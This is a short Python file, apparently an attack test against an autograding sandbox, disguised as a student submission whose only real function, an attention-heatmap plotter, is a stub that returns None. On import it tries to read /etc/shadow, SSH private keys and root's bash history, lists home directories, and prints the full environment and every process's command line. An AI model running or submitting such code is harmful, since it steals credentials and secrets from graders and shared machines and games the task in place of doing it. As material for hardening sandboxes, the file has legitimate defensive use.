# Attack (reading): prints what no student may see: the instructor's home, SSH keys, the
# shadow password file, the grader's environment and its processes' command lines.
import glob
import os

for _path in ["/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", os.path.expanduser("~/.ssh/id_rsa")]:
    try:
        print(_path, open(_path).read()[:500])
    except OSError as error:
        print("cannot read", _path, type(error).__name__)
print("home:", glob.glob("/root/*") + glob.glob("/home/*/*"))
print("environment:", dict(os.environ))
for _proc in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(_proc, open(_proc, "rb").read().replace(b"\0", b" ")[:300])
    except OSError:
        pass


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
